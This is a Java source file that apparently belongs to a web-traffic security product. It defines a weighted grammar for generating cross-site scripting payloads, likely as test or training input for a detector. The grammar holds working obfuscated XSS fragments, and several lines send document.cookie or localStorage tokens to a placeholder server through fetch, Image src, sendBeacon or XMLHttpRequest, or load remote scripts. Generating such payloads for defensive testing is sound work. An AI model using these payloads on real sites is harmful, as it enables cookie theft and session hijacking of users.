package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;

/** What injected markup is made of: elements, event handlers, and the script that shall run. */
final class XssWords {

    static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            arg ::=
              6×«0..9»
              3×«0..9999»
              5×document.«cookie¦domain¦location¦URL¦referrer¦title»
              '«letters 1..6»'
              "«letters 2..6»"
              `«letters 2..6»`
              /«letters 2..6»/
              String.fromCharCode(«@codes «letters 2..6»»)
              «window.origin¦location.href¦localStorage.«word»¦this.src¦name¦self.origin¦window.location»
              «»
            call ::=
              24×alert
              6×prompt
              6×confirm
              «console.log¦print¦eval¦document.write¦al\\u0065rt¦\\u0061lert¦\\u{61}lert¦a\\u006cert»
              «top¦self¦window¦parent¦this¦frames¦globalThis»['«alert¦prompt¦confirm¦eval»']
              «top¦self¦window¦parent»[«@concat «alert¦prompt¦confirm»»]
              «top¦window¦self»["\\x«61lert¦70rompt»"]
              window[/«al¦ale»/.source+/«ert¦rt»/.source]
              (alert)
              [«1..9»].find(alert)«?//»
              (_=alert,_)
              self[atob('«@base64 alert»')]
              «window¦self».alert
            js ::=
              40×«call»(«arg»)
              6×«call»`«0..99»`
              2×«call»(«arg»)«;¦//¦;//»
              fetch('«//¦https://¦http://»«server»/«?«name»»?«name»='+«document.cookie¦btoa(document.cookie)¦localStorage.token»)
              «new Image().src¦location¦document.location¦window.location¦location.href»=«'¦"»«//¦http://»«server»/?«name»='+«document.cookie¦escape(document.cookie)»
              eval(«atob('«@base64 alert(«arg»)»')¦String.fromCharCode(«@codes alert(«0..99»)»)¦name¦location.hash.slice(1)»)
              «setTimeout¦setInterval»(«'¦`»alert(«0..99»)«'¦`»«?,«0..999»»)
              «Function¦new Function»(«'¦`»alert(«0..99»)«'¦`»)()
              [].constructor.constructor(«'¦"»alert(«0..99»)«'¦"»)()
              []["filter"]["constructor"]("alert(«0..99»)")()
              onerror=«alert¦eval»;throw «1..99»
              {onerror=alert}throw «1..99»
              throw onerror=alert,«arg»
              import('//«host»/«name».js')
              document.write('<«script¦img» src=//«server»/«name»>')
              document.body.innerHTML=«'¦`»«letters 3..9»«'¦`»
              var «name»=document.createElement('script');«name».src='//«server»/«name».js';document.body.appendChild(«name»)
              $.getScript('//«server»/«name».js')
              with(document)alert(«cookie¦domain»)
              (()=>{«call»(«arg»)})()
              «arg».replace(/.+/,«alert¦eval»)
              Reflect.apply(alert,null,[«arg»])
              alert.«call¦apply»(null,«arg»)
              «[«1..9»]¦[document.domain]».«map¦forEach¦some¦every»(alert)
              navigator.sendBeacon('//«server»',document.cookie)
              history.pushState(0,0,'/«word»')
              window.open('//«server»')
              ;[]['\\146ilter']['\\143onstructor']('«@octal alert(1)»')()
              («¦!»![]+[])[+!+[]]+(!![]+[])[«+[]¦!+[]+!+[]»]
              [][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]
              a=alert,a(«arg»)
              x=new XMLHttpRequest();x.open('GET','//«server»/'+document.cookie);x.send()
              document.forms[0].action='//«server»'
            event ::=
              6×onerror
              4×onload
              2×onmouseover
              2×onclick
              2×onfocus
              2×ontoggle
              onmouse«enter¦leave¦move¦out¦down¦up¦wheel»
              on«dblclick¦contextmenu¦auxclick¦blur¦focusin¦focusout¦change¦input¦invalid¦submit¦reset¦select¦search»
              on«keydown¦keypress¦keyup¦drag¦dragend¦dragenter¦dragleave¦dragover¦dragstart¦drop¦copy¦cut¦paste»
              on«beforecopy¦beforecut¦beforepaste¦beforeinput¦selectionchange¦selectstart¦wheel¦scroll¦scrollend»
              onpointer«over¦enter¦down¦move¦up¦out¦leave¦rawupdate¦cancel»
              on«gotpointercapture¦lostpointercapture¦touchstart¦touchend¦touchmove¦touchcancel»
              on«animationstart¦animationend¦animationiteration¦animationcancel¦transitionend¦transitionrun¦transitionstart»
              onwebkit«animationstart¦animationend¦animationiteration¦transitionend¦mouseforceup¦playbacktargetavailabilitychanged»
              on«beforetoggle¦contentvisibilityautostatechange¦scrollsnapchange¦securitypolicyviolation¦slotchange»
              on«play¦playing¦canplay¦canplaythrough¦loadstart¦loadeddata¦loadedmetadata¦loadend¦progress¦ended¦pause»
              on«seeking¦seeked¦stalled¦suspend¦timeupdate¦volumechange¦waiting¦durationchange¦cuechange¦ratechange»
              on«begin¦end¦repeat¦zoom¦unload¦beforeunload¦pagehide¦pageshow¦popstate¦hashchange¦message¦storage¦resize»
              on«afterprint¦beforeprint¦online¦offline¦languagechange¦start¦finish¦bounce¦show¦close¦cancel¦formdata»
              on«unhandledrejection¦readystatechange¦propertychange¦fullscreenchange¦deviceorientation¦beforematch»
              onbefore«activate¦deactivate¦update¦scriptexecute¦editfocus»
            tag ::=
              4×img
              4×svg
              2×«body¦input¦iframe¦video¦audio¦details¦a¦div»
              «object¦embed¦button¦select¦textarea¦keygen¦marquee¦isindex¦math¦form¦table¦style¦link¦base¦meta¦picture»
              «p¦b¦i¦span¦h1¦label¦font¦center¦blink¦article¦section¦nav¦main¦aside¦image¦bgsound¦frameset¦applet¦xmp»
              «xss¦x¦custom-«letters 2..4»¦dialog¦template¦noscript¦source¦track¦option¦fieldset¦summary¦menu¦canvas»
              svg><«animate¦set¦animatetransform¦script¦use¦image¦a¦foreignObject¦discard»
              video><source
              «letters 1..6»
            gap ::=
              20×«sp»
              6×/
              «tab»
              «nl»
              «ff»
              «cr»«nl»
              «vt»
              «1..4×«sp»»
              //
              /«letters 1..3»/
              «sp»«letters 1..4»=«letters 1..4»«sp»
              %09
              %0a
              %0c
              &Tab;
            before ::=
              16×«»
              5×">
              4×'>
              «word»
              "/>
              '/>
              </«title¦textarea¦style¦script¦noscript¦template¦iframe¦xmp¦select¦a¦option¦noembed¦plaintext»>
              "></«title¦textarea¦style¦script¦select¦option¦form¦div»>
              -->
              ]]>
              >
              «word»">
              «word»'>
              `>
              ");}</style>
              <b>«word»</b>
              '"><
              «value»
              *//*
              </«tag»>
            q ::=
              4×"
              3×'
              `
              4×«»
            """);

    private XssWords() {}
}
